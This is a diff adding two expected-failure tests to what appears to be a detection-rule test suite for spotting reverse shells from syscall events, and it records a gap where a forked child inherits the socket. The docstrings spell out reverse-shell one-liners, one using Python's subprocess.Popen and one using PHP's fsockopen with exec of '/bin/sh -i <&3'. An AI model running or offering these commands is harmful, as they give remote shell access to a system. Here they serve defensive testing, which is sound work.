@@ -252,3 +252,38 @@ def test_stdio_only_rule_fires_without_image_files(tmp_path: Any) -> None:
     ]
     fired = fired_over(load_rules(rules), events)
     assert fired[-2:] == [{"rs"}, set()]
+
+
+# --- reverse shell on stdio: the dup2 in a child that inherited the socket ----------------
+
+_CHILD_DUP_REASON = (
+    "the dup2 onto stdin is in a forked child that connected nothing (subprocess.Popen(stdin=s),"
+    " php exec('sh -i <&3')); telling its inherited socket from a pipe needs the connected "
+    "descriptors (a sys_connect fd hook) and their closes, which the rules and policy lack"
+)
+
+
+@pytest.mark.xfail(strict=True, reason=_CHILD_DUP_REASON)
+def test_reverse_shell_popen_with_the_socket_as_stdin() -> None:
+    """``s.connect(...); subprocess.Popen(["/bin/sh", "-i"], stdin=s, stdout=s, stderr=s)``."""
+    events = [
+        at(connect(), 5500, "cG9w"),
+        at(dup(3, 0), 5501, "cG9wMg==", parent=(5500, "cG9w", PY)),
+        at(exec_event("/bin/sh", "-i"), 5501, "c2g3", parent=(5500, "cG9w", PY)),
+    ]
+    assert "reverse-shell-stdio" in fired_over(load_rules(), events)[-1]
+
+
+@pytest.mark.xfail(strict=True, reason=_CHILD_DUP_REASON)
+def test_reverse_shell_php_exec_redirects_fd_3() -> None:
+    """``php -r '$s=fsockopen("h",4444);exec("/bin/sh -i <&3 >&3 2>&3");'``: php connects,
+    its ``sh -c`` child does the dup2(3, 0) and execs the interactive shell."""
+    php = "/usr/bin/php"
+    sh_c = "-c /bin/sh -i <&3 >&3 2>&3"
+    events = [
+        at(connect(php), 5600, "cGhw"),
+        at(exec_event("/bin/sh", sh_c), 5601, "c2hj", parent=(5600, "cGhw", php)),
+        at(dup(3, 0, binary="/bin/sh"), 5601, "c2hj", parent=(5600, "cGhw", php)),
+        at(exec_event("/bin/sh", "-i"), 5602, "c2hp", parent=(5601, "c2hj", "/bin/sh")),
+    ]
+    assert "reverse-shell-stdio" in fired_over(load_rules(), events)[-1]
